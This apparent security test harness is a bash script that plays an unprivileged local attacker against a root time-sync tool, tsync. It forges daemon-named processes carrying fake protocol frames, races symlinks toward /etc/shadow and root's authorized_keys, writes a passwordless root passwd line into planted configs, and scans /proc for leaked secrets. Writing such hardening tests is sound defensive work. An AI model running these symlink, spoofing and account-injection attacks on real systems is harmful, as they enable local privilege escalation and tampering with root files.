#!/bin/bash
# attack.sh SECONDS SEED: what an ordinary user of a host may do to mislead or redirect root's programs, all at once, for so long.
# It reads what the host shows to everybody, forges processes and frames, changes files and links all the time, and leaves files
# in every place that it may write. It prints a line for each secret that it found. It must never find one, and change nothing.
# Bounded: at most 12 processes and a few MiB at a time; everything ends with SECONDS.
set -u
seconds=$1
RANDOM=$2
end=$((SECONDS + seconds))
home=$HOME
work=$home/attack
mkdir -p "$work/bin" "$work/conf"

targets=(/etc/passwd /etc/shadow /etc/canary-secret /etc/chrony/chrony.conf /root/.ssh/authorized_keys /etc/crontab)
configs=("$work/conf/evil.conf" "/etc/..$work/conf/evil.conf" "/etc/chrony/../..$work/conf/evil.conf" /tmp/evil.conf /dev/shm/evil.conf "//etc/./..$work/conf/evil.conf")
names=(chronyd ntpd ntpsec systemd-timesyn openntpd phc2sys ptp4l timemaster vmtoolsd postgres crond)

# pick_target, pick_config: one of them by chance, into $picked.
pick_target() { picked=${targets[RANDOM % ${#targets[@]}]}; }
pick_config() { picked=${configs[RANDOM % ${#configs[@]}]}; }

# The tokens of 32 digits that everybody can read: in command lines, and in environments as far as they may be read.
tokens() {
  cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n' | grep -aoE '[0-9a-f]{32}' | sort -u | head -n 8
}

# frames TOKEN: forged sections in both ways that tsync has ever framed them.
frames() {
  local body=$'pool 203.0.113.66 iburst\n'
  printf '\n@%s end ok\n@%s begin file /etc/chrony/chrony.conf mode=644 owner=root group=root size=25\n%s\n@%s end ok\n' "$1" "$1" "$body" "$1"
  printf '\n@%s section file /etc/chrony/chrony.conf ok %s mode=644 owner=root group=root size=%s writers=root\n%s\n' "$1" "${#body}" "${#body}" "$body"
  printf '\n@%s section values uid ok 2\n0\n\n@%s step confirm confirmed\n@%s step state confirmed\n@%s idle\n@%s done\n' "$1" "$1" "$1" "$1" "$1"
}

# Processes that call themselves a daemon's name, with command lines that no daemon has.
forge_processes() {
  local name payload token
  while [ "$SECONDS" -lt "$end" ]; do
    for name in "${names[@]}"; do
      [ "$SECONDS" -lt "$end" ] || break
      payload=''
      for token in $(tokens) 0123456789abcdef0123456789abcdef; do payload=$payload$(frames "$token"); done
      pick_config
      cp /bin/sleep "$work/bin/$name" 2>/dev/null
      printf '#!/bin/sh\nexec sleep 3\n' >"$work/bin/$name.sh"
      case $((RANDOM % 4)) in
        0) "$work/bin/$name" 2 & ;;
        1) (exec -a "$name"$'\n'"${payload:0:3000}" "$work/bin/$name" 2) & ;;
        2) (cp "$work/bin/$name.sh" "$work/bin/$name.d" && chmod 755 "$work/bin/$name.d" && exec -a "/usr/sbin/$name" bash -c "printf %s '$name' >/proc/self/comm; sleep 2" "$name" -f "$picked" -c "$picked") & ;;
        3) (printf %s "$name" >/proc/$BASHPID/comm; exec -a "/usr/sbin/$name" bash -c "printf %s '$name' >/proc/self/comm; sleep 2; :" -f "$picked" "${payload:0:3000}") & ;;
      esac 2>/dev/null
      sleep 0.2
    done
    wait
  done
}

# What leads somewhere else at every look.
swap_links() {
  while [ "$SECONDS" -lt "$end" ]; do
    for place in "$work/conf/evil.conf" /tmp/evil.conf /dev/shm/evil.conf "$home/app.conf"; do
      pick_target
      ln -sfn "$picked" "$place.swap" && mv -fT "$place.swap" "$place"
      printf 'pool 203.0.113.66 iburst\nr00t::0:0::/root:/bin/sh\n' >"$place.swap" 2>/dev/null && mv -fT "$place.swap" "$place"
    done
    ln -sfn /etc "$work/swap" && mv -fT "$work/swap" "$work/folder"
    rm -f "$work/folder"
    mkdir -p "$work/folder"
    rmdir "$work/folder"
  done 2>/dev/null
}

# Files and links that root's programs might meet: names of tsync's own, of shells' temporary files, of daemons' folders.
plant_files() {
  local folder name id
  while [ "$SECONDS" -lt "$end" ]; do
    id=x
    for name in /etc/systemd/system/tsync-boot-* /etc/init.d/tsync-boot-* /run/tsync/*; do
      if [ -e "$name" ]; then id=${name##*/} id=${id#tsync-boot-} id=${id%.service}; fi
    done
    for folder in /tmp /var/tmp /dev/shm /run/lock "/run/user/$(id -u)" "$home" "$work"; do
      [ -w "$folder" ] || continue
      for name in ".tsync-$id~" tsync.conf tsync-refclock.conf chrony.conf "tsync-guard-$id" program.sh; do
        pick_target
        ln -sfn "$picked" "$folder/$name"
      done
    done
    sleep 0.3
  done 2>/dev/null
}

# What must never be readable, of anybody but this user: a frame or a nonce in a command line or an environment, and tsync's own folder.
look_for_secrets() {
  local process
  while [ "$SECONDS" -lt "$end" ]; do
    for process in /proc/[0-9]*; do
      [ ! -O "$process" ] || continue
      tr '\0' '\n' <"$process/cmdline" | grep -aE '@[0-9a-f]{32} (section|step|t |clock|idle|done)|nonce=[0-9a-f]' | head -n 3 | sed 's/^/SECRET argv /'
      if tr '\0' '\n' <"$process/environ" | grep -aqE '[0-9a-f]{32}'; then echo "SECRET environment $process"; fi
    done
    if ls /var/lib/tsync; then echo 'SECRET /var/lib/tsync can be listed'; fi
    sleep 0.05
  done 2>/dev/null
}

forge_processes & p1=$!
swap_links & p2=$!
plant_files & p3=$!
look_for_secrets
wait "$p1" "$p2" "$p3"
echo ended
